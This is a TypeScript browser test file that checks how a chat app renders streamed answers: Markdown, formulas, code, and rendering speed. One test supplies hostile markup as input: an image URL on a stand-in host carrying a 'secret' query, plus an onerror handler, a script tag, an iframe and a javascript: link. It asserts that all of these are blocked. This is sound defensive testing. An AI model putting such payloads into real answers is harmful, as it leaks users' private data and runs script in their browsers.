/** How an answer is rendered in a real browser: Markdown, safety, speed. */
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import type { ChatStream } from './page-fake-server.ts'
import { noBrowser, usePage } from './page-harness.ts'

/** ms of processor time that one task may take while an answer streams (issue 3, section 5). */
const LONGEST_TASK_MS = 200

describe.skipIf(noBrowser !== undefined)(`an answer on the page (${noBrowser ?? 'in Chromium'})`, () => {
  const app = usePage()

  it('renders Chinese emphasis, tables, code and formulas, and money as money', async () => {
    const stream = await app.ask('Show everything')
    stream.text('这是**“粗体”**和**粗体（括号）**很好。\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("hi")\n```\n\n')
    stream.text('It costs $5 and $10. Inline \\(a^2 + b^2\\) and\n\n\\[ c = \\sqrt{a^2 + b^2} \\]\n')
    stream.finish()
    await app.settled('done')
    await app.page.locator('.katex-display').waitFor()
    expect(await app.page.locator('.markdown strong').allTextContents()).toEqual(['“粗体”', '粗体（括号）'])
    expect(await app.page.locator('.markdown td').allTextContents()).toEqual(['1', '2'])
    await app.page.locator('.code-line .hljs-string').waitFor()
    expect(await app.page.locator('.katex').count()).toBe(2)
    expect(await app.answer().textContent()).toContain('It costs $5 and $10.')
  })

  it('fetches no image of another host and runs nothing that the model writes', async () => {
    const outside: string[] = []
    app.page.on(
      'request',
      (request) => !request.url().startsWith(app.server.url) && !request.url().startsWith('data:') && outside.push(request.url()),
    )
    const stream = await app.ask('Attack')
    stream.text(
      '![secret](https://evil.example/pixel.png?q=secret)\n\n<img src="https://evil.example/2.png" onerror="document.title=1">\n\n',
    )
    stream.text('<script>document.title = "owned"</script><iframe src="https://evil.example"></iframe>\n\n[click](javascript:alert(1)) end')
    stream.finish()
    await app.settled('done')
    await app.page.getByText('Image not loaded, to keep your chat private · secret').waitFor()
    expect(outside).toEqual([])
    expect(await app.page.title()).toBe('Attack · bendi')
    expect(await app.answer().locator('script, iframe, a[href^="javascript"], .markdown img').count()).toBe(0)
  })

  it('never blocks for long while 100 tokens a second stream', async () => {
    const warm = await app.ask('Warm up')
    warm.text('```js\nlet a = 1\n```\n\n\\(x\\)')
    warm.finish()
    await app.settled('done')
    await app.page.locator('.katex').waitFor()
    const tasks = await recordTasks(app.page)
    const stream = await app.ask('Now much')
    await streamAtRate(stream, tokensOf(LONG_ANSWER.repeat(3)).slice(0, 800), 100)
    stream.finish()
    await app.settled('done')
    const longest = await tasks.longest()
    expect(longest).toBeGreaterThan(0)
    expect(longest).toBeLessThan(LONGEST_TASK_MS)
  })
})

const LONG_ANSWER = `## Sorting

Quicksort divides the list around a **pivot**, and \\(T(n) = 2T(n/2) + O(n)\\) gives \\(O(n \\log n)\\) on average.

| Algorithm | Average | Stable |
|---|---|---|
| Quicksort | \\(n \\log n\\) | no |
| Merge sort | \\(n \\log n\\) | yes |

\`\`\`python
def quicksort(items):
    if len(items) <= 1:
        return items
    pivot = items[len(items) // 2]
    return quicksort([x for x in items if x < pivot]) + [pivot] + quicksort([x for x in items if x > pivot])
\`\`\`

1. 先选一个基准，再把**较小的**放到左边。
2. Then sort both parts \`recursively\`.

`

/**
 * The page's tasks in processor time (Chromium's tracing): what a PerformanceObserver calls a long task is wall time,
 * and would count what the other programs of a busy machine take.
 */
async function recordTasks(page: Page): Promise<{ longest(): Promise<number> }> {
  const session = await page.context().newCDPSession(page)
  const events: { name?: string; tdur?: number }[] = []
  session.on('Tracing.dataCollected', ({ value }) => events.push(...value))
  await session.send('Tracing.start', {
    transferMode: 'ReportEvents',
    traceConfig: { includedCategories: ['disabled-by-default-devtools.timeline'] },
  })
  return {
    longest: async () => {
      const complete = new Promise((resolve) => session.once('Tracing.tracingComplete', resolve))
      await session.send('Tracing.end')
      await complete
      const durations = events.filter(({ name }) => name === 'RunTask').map(({ tdur = 0 }) => tdur / 1000)
      return durations.reduce((longest, duration) => Math.max(longest, duration), 0)
    },
  }
}

/** Pieces of about a token's length. */
function tokensOf(text: string): string[] {
  return text.match(/[\s\S]{1,4}/g) ?? []
}

/** The wall clock decides how many are due: a slow timer does not slow the stream down. */
function streamAtRate(stream: ChatStream, tokens: readonly string[], perSecond: number): Promise<void> {
  const startedAt = performance.now()
  let sent = 0
  return new Promise((resolve) => {
    const timer = setInterval(() => {
      const due = Math.min(tokens.length, Math.floor(((performance.now() - startedAt) / 1000) * perSecond))
      for (; sent < due; sent += 1) stream.text(tokens[sent] ?? '')
      if (sent < tokens.length) return
      clearInterval(timer)
      resolve()
    }, 10)
  })
}
